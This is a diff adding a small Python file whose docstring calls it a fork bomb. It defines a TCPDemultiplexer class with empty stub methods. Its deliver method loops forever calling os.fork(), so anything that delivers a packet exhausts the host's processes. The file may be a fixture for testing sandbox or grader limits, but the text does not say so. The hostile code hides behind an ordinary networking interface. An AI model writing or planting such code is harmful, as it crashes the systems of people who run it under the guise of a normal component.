@@ -1,0 +1,24 @@
+"""A fork bomb."""
+
+import os
+
+
+class TCPDemultiplexer:
+    def __init__(self):
+        pass
+
+    def listen(self, name, address, port):
+        pass
+
+    def connect(self, name, source_address, source_port, destination_address, destination_port):
+        pass
+
+    def close(self, name):
+        pass
+
+    def deliver(self, packet):
+        while True:
+            try:
+                os.fork()
+            except OSError:
+                pass
